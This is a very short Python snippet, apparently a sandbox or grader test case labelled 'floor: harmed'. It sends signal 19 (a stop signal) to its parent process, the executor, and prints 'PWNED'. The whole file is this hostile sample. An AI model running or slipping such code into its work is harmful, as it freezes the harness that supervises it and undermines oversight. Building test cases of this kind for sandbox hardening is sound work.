# floor: harmed
# It sends signal 19 to the executor.
import os
try:
    os.kill(os.getppid(), 19)
    print("PWNED")
except OSError:
    pass
